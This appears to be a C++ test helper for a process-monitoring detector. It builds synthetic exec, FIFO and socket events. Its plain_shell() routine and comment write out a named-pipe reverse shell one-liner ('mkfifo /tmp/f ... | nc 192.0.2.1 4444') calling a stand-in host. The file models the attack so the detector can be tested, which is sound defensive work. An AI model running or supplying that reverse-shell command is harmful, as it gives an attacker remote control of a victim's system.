// SPDX-License-Identifier: Apache-2.0
// Events for tests, told in a line each: `history.exec(pid, ppid, {"sh", "-i"})`. Time advances by
// a millisecond an event.
#pragma once

#include <initializer_list>
#include <string>
#include <string_view>
#include <vector>

#include "event/event.hpp"

namespace pipehound::test {

class History {
public:
    /// Programs live where Debian has them: sh is dash, nc is nc.openbsd.
    static std::string exe_of(std::string_view name) {
        if (name.find('/') != std::string_view::npos) return std::string{name};
        if (name == "sh") return "/usr/bin/dash";
        if (name == "nc") return "/usr/bin/nc.openbsd";
        return "/usr/bin/" + std::string{name};
    }

    const event::Event& exec(int pid, int ppid, std::vector<std::string> argv) {
        const auto exe = exe_of(argv.front());
        return add(pid, ppid, exe, event::ProcessExecuted{argv.front(), argv, "/home/u"});
    }
    /// An exec whose file has another name than argv[0] says.
    const event::Event& exec_file(int pid, int ppid, const std::string& exe,
                                  std::vector<std::string> argv) {
        return add(pid, ppid, exe, event::ProcessExecuted{exe, std::move(argv), "/home/u"});
    }
    const event::Event& make_fifo(int pid, int ppid, std::string path, std::uint64_t inode = 7) {
        return add(
            pid, ppid, "/usr/bin/mkfifo",
            event::FileCreated{{1, inode}, event::FileType::fifo, std::move(path), "/home/u"});
    }
    enum class Mode { read, write, both };
    const event::Event& open(int pid, int ppid, std::string_view exe, Mode mode,
                             std::string path = "/tmp/f", std::uint64_t inode = 7) {
        return add(pid, ppid, exe_of(exe),
                   event::FileOpened{{1, inode},
                                     event::FileType::fifo,
                                     std::move(path),
                                     mode != Mode::write,
                                     mode != Mode::read,
                                     fd,
                                     "/home/u"});
    }
    const event::Event& remove(int pid, int ppid, std::string path = "/tmp/f",
                               std::uint64_t inode = 7) {
        return add(pid, ppid, "/usr/bin/rm",
                   event::FileRemoved{{1, inode}, event::FileType::fifo, std::move(path)});
    }
    const event::Event& connect(int pid, int ppid, std::string_view exe,
                                std::string address = "192.0.2.1", std::uint16_t port = 4444) {
        return add(pid, ppid, exe_of(exe),
                   event::SocketConnected{{std::move(address), port}, true, 3});
    }
    const event::Event& accept(int pid, int ppid, std::string_view exe,
                               std::string address = "192.0.2.1", std::uint16_t port = 50000) {
        return add(pid, ppid, exe_of(exe), event::SocketAccepted{{std::move(address), port}, 4});
    }
    const event::Event& bind(int pid, int ppid, std::string_view exe, std::uint16_t port = 4444) {
        return add(pid, ppid, exe_of(exe), event::SocketBound{{"0.0.0.0", port}, 3});
    }

    /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f, up to the connect. The
    /// shell that runs this line is 100, cat 102, sh 103, nc 104.
    void plain_shell() {
        exec(100, 1, {"bash", "-c", "..."});
        exec(101, 100, {"mkfifo", "/tmp/f"});
        make_fifo(101, 100, "/tmp/f");
        exec(102, 100, {"cat", "/tmp/f"});
        exec(103, 100, {"sh", "-i"});
        open(104, 100, "bash", Mode::write);
        open(102, 100, "cat", Mode::read);
        exec(104, 100, {"nc", "192.0.2.1", "4444"});
    }

    /// Lets time pass without an event.
    void wait(event::Duration duration) { time += duration; }

    [[nodiscard]] const std::vector<event::Event>& events() const noexcept { return events_; }

    event::Time time{std::chrono::seconds{1700000000}};
    event::NodeId node{};
    std::int32_t fd = 3;
    std::uint32_t uid = 1000;
    std::uint32_t session = 5;

private:
    const event::Event& add(int pid, int ppid, std::string exe, event::Act act) {
        time += event::Duration{1};
        event::Event event{{node, time, ++serial_}, {}, std::move(act)};
        event.actor.pid = event::Pid{pid};
        event.actor.ppid = event::Pid{ppid};
        event.actor.uid = event.actor.login_uid = event::Uid{uid};
        event.actor.session = event::Session{session};
        event.actor.exe = std::move(exe);
        events_.push_back(std::move(event));
        return events_.back();
    }

    std::vector<event::Event> events_;
    event::Serial serial_ = 1000;
};

}  // namespace pipehound::test
